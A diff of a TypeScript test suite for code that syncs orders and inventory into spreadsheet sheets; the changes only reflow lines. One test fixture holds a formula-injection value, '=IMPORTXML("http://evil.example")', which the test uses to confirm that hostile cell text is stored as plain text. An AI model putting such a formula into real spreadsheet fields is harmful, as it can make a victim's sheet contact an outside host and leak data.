@@ -77,9 +77,7 @@ describe('a first pull', () => {
 
   test('case 41, case 43: identifiers and hostile texts are written as plain text', () => {
     const book = new InMemoryBook();
-    save(book, [
-      order({ OrderNumber: '00017', OrderStatusDescription: '=IMPORTXML("http://evil.example")' }),
-    ]);
+    save(book, [order({ OrderNumber: '00017', OrderStatusDescription: '=IMPORTXML("http://evil.example")' })]);
     const { cells, formats } = book.sheet('Orders');
     const texts = cells[1]!.flatMap((cell, index) =>
       typeof cell === 'string' && cell !== '' ? [[cell, formats[1]![index]]] : [],
@@ -114,9 +112,7 @@ describe('a second pull', () => {
     expect(sheet.writes).toHaveLength(1);
     const asOf = before[0]!.indexOf('As of');
     expect(sheet.cells).toEqual(
-      before.map((row, index) =>
-        row.map((cell, at) => (index > 0 && at === asOf ? new Date(THEN + 60_000) : cell)),
-      ),
+      before.map((row, index) => row.map((cell, at) => (index > 0 && at === asOf ? new Date(THEN + 60_000) : cell))),
     );
   });
 
@@ -131,9 +127,7 @@ describe('a second pull', () => {
   test('case 66: rows are found by identity, in whatever order they come', () => {
     const book = new InMemoryBook();
     saveStock(book, records);
-    const changed = [...records]
-      .reverse()
-      .map((record, index) => (index === 7 ? stock('9SI42', 999) : record));
+    const changed = [...records].reverse().map((record, index) => (index === 7 ? stock('9SI42', 999) : record));
     expect(saveStock(book, changed, THEN + 1)[0]).toMatchObject({ added: 0, changed: 1, unchanged: 49 });
     expect(book.rows('Inventory')[42]).toMatchObject({ 'Item number': '9SI42', 'Available quantity': 999 });
   });
@@ -191,9 +185,7 @@ describe('what is the user’s', () => {
     sheet.deleteColumn(at + 1);
     saveStock(book, [stock('9SIA', 1)], THEN + 1);
     expect(sheet.cells[0]!.at(-1)).toBe('Condition');
-    expect(book.rows('Inventory')).toMatchObject([
-      { 'Item number': '9SIA', Condition: 1, 'Available quantity': 1 },
-    ]);
+    expect(book.rows('Inventory')).toMatchObject([{ 'Item number': '9SIA', Condition: 1, 'Available quantity': 1 }]);
   });
 
   test.each([
@@ -243,11 +235,7 @@ test('case 87: an order that comes twice in a slice is written once, with its li
     ['Order lines', 3],
     ['Packages', 0],
   ]);
-  expect(book.rows('Order lines').map((row) => row['Row key'])).toEqual([
-    'A006|1|A',
-    'A006|1|A|2',
-    'A006|2|A',
-  ]);
+  expect(book.rows('Order lines').map((row) => row['Row key'])).toEqual(['A006|1|A', 'A006|1|A|2', 'A006|2|A']);
 });
 
 test('case 84: 250 rows are one write', () => {
